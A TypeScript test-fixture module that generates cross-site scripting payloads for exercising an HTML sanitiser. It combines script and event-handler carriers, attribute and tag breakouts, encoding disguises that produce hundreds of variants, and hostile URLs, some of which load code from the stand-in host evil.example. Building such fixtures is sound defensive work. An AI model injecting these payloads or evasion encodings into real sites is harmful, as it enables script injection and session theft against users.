/** Texts that try to run a script where they are shown. Each sets `window.hit` or asks evil.example if it succeeds. */

const run = "window.hit=1;document.title=`hit`";

const carriers: readonly string[] = [
  "<script>#</script>",
  "<img src=x onerror=#>",
  "<svg onload=#>",
  `"><script>#</script>`,
  `'><img src=x onerror=#>`,
  `" autofocus onfocus="#`,
  `' autofocus onfocus='#`,
  "</title><script>#</script>",
  "</textarea><script>#</script>",
  "</script><script>#</script>",
  "</style><script>#</script>",
  "--><script>#</script><!--",
  "]]><script>#</script>",
  "<details open ontoggle=#>x</details>",
  "<iframe srcdoc='<script>parent.#</script>'></iframe>",
  "<math><mtext><table><mglyph><style><img src=x onerror=#></style></table></mtext></math>",
  "<body onload=#>",
  `<meta http-equiv="refresh" content="0;url=javascript:#">`,
  `<base href="https://evil.example/">`,
  `<link rel=stylesheet href="https://evil.example/a.css">`,
  `<form action="javascript:#"><button>x</button></form>`,
  "{{ '<script>#</script>' | raw }}{% raw %}<script>#</script>{% endraw %}",
  "&lt;script&gt;#&lt;/script&gt;&#60;img src=x onerror=#&#62;",
  "\\u003cscript\\u003e#\\u003c/script\\u003e",
  "<ScRiPt\n>#</sCrIpT\t>",
];

export const hostileTexts = carriers.map((carrier) => carrier.replaceAll("#", run));

const signs = (text: string, write: (sign: string) => string) => text.replace(/[<>"'&]/g, write);
const code = (sign: string) => sign.charCodeAt(0);

/** Ways to write a text so that a careless decoder or an open element makes a script of it. */
const disguises: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<\/?[a-z]+/gi, (tag) => tag.toUpperCase()),
  (text) => text.replace(/(<[a-z]+) /gi, "$1/"),
  (text) => signs(text, (sign) => `&#${code(sign)};`),
  (text) => signs(text, (sign) => `&#x${code(sign).toString(16)}`),
  (text) => signs(text, (sign) => `\\u00${code(sign).toString(16)}`),
  (text) => signs(text, (sign) => `%${code(sign).toString(16)}`),
  (text) => signs(text, (sign) => `%25${code(sign).toString(16)}`),
  (text) => signs(text, (sign) => String.fromCharCode(code(sign) + 0xfee0)),
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `-->${text}`,
  (text) => `</p></div></main>${text}`,
  (text) => `</script>${text}`,
  (text) => `{{ '${text}' | raw }}`,
  (text) => `{% endraw %}${text}`,
  (text) => `<!--><x y="${text}`,
  (text) => `<noscript><p title="</noscript>${text}">`,
  (text) => `<svg><desc>${text}`,
  (text) => `</h1>${text}`,
  (text) => `</a>${text}`,
  (text) => text.slice(0, -1),
];

/** The same texts, each in all disguises; more than 500. */
export const manyHostileTexts = [...new Set(disguises.flatMap((disguise) => hostileTexts.map(disguise)))];

/** Addresses that run a script when they are followed or loaded. */
export const hostileAddresses: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `vbscript:${run}`,
  `https://evil.example/"onload="${run}`,
  "//evil.example/x.js",
  `https://www.youtube.com/watch?v="><script>${run}</script>`,
  `https://evil.example/embed/dQw4w9WgXcQ`,
  "/files/1/../../api/company",
];
